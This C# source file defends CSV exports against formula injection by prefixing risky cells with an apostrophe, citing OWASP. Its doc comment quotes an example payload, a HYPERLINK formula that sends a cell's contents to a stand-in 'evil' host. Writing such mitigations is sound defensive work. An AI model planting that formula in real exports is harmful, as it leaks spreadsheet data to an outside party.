namespace NewsClassifier.Application.Datasets;

/// <summary>CSV formula injection: Excel, LibreOffice and Google Sheets run a cell that starts with = + - @ (or a tab or
/// carriage return before one) as a formula, so an article titled <c>=HYPERLINK("http://evil/?"&amp;A1)</c> in an export
/// would run on the reader's machine. Such a cell gets a leading apostrophe, the spreadsheet's own "this is text" mark
/// (OWASP's advice); the text after it is unchanged.</summary>
public static class CsvCell
{
    public static string DefuseFormula(string value) =>
        value.Length > 0 && value[0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + value : value;
}
